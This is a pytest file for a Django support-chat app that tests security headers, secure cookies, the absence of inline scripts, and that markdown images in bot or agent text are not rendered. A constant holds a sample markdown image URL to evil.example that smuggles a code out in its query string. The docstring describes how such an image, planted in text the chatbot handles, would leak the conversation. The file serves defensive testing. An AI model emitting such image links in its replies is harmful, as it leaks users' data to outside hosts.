"""Outside DEBUG the browser is told to keep to HTTPS (HSTS, Secure cookies, the visitor's
included), to run only this site's script files and load images only from this site (CSP), and
to send no conversation address to other sites (Referrer-Policy). Markdown images are never
rendered, in bot or agent text: an image URL planted in a screenshot, a draft or a pasted text
would carry the conversation to its host as soon as the page loads it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client, RequestFactory

from supportbot.chat.frames import message_payload
from supportbot.chat.models import Message
from supportbot.lib.csp import parse_policy, policy_for
from tests.chat_fixtures import new_conversation

pytestmark = pytest.mark.django_db

TEMPLATES = Path(settings.BASE_DIR) / "templates"
EXFILTRATING = "Your code is 1234 ![status](https://evil.example/pixel.png?c=1234)"


def test_the_chat_page_over_https_sends_hsts_csp_referrer_policy_and_secure_cookies():
    assert not settings.DEBUG
    response = Client().get("/", secure=True)
    assert response.status_code == 200
    assert response["Strict-Transport-Security"].startswith("max-age=31536000")
    assert response["Referrer-Policy"] == "same-origin"
    policy = parse_policy(response["Content-Security-Policy"])
    assert policy["script-src"] == ["'self'"]
    assert policy["img-src"] == ["'self'", "data:", "blob:"]
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert "wss://testserver" in policy["connect-src"]
    visitor_cookie = response.cookies[settings.VISITOR_COOKIE_NAME]
    assert visitor_cookie["secure"] is True and visitor_cookie["httponly"] is True


def test_the_admin_login_page_has_the_policy_and_a_secure_csrf_cookie():
    response = Client().get("/admin/login/", secure=True)
    assert response.status_code == 200
    assert parse_policy(response["Content-Security-Policy"])["script-src"] == ["'self'"]
    assert response.cookies[settings.CSRF_COOKIE_NAME]["secure"] is True


def test_a_view_that_sets_one_directive_keeps_it_and_gets_the_rest():
    """The widget's frame names the one site that may frame it; the rest of the policy holds."""
    request = RequestFactory().get("/widget/frame/")
    policy = parse_policy(policy_for(request, "frame-ancestors https://shop.example"))
    assert policy["frame-ancestors"] == ["https://shop.example"]
    assert policy["script-src"] == ["'self'"] and "ws://testserver" in policy["connect-src"]


def test_no_template_has_inline_script_or_event_handlers():
    """script-src 'self' would block them: every page's JavaScript must be a static file."""
    offenders = []
    for template in TEMPLATES.rglob("*.html"):
        text = template.read_text()
        for tag in re.findall(r"<script\b[^>]*>", text):
            if "src=" not in tag and 'type="application/json"' not in tag:
                offenders.append(f"{template.name}: {tag}")
        offenders += [f"{template.name}: {m}" for m in re.findall(r"\son[a-z]+\s*=", text)]
        offenders += [f"{template.name}: javascript: URL" for _ in re.findall(r"javascript:", text)]
    assert offenders == []


@pytest.mark.parametrize("role", [Message.Role.ASSISTANT, Message.Role.AGENT])
def test_markdown_images_are_not_rendered_in_bot_or_agent_text(role):
    message = Message.objects.create(conversation=new_conversation(), role=role, text=EXFILTRATING)
    html = message_payload(message)["html"]
    assert "<img" not in html and "src=" not in html
    assert "1234" in html  # the text itself is shown
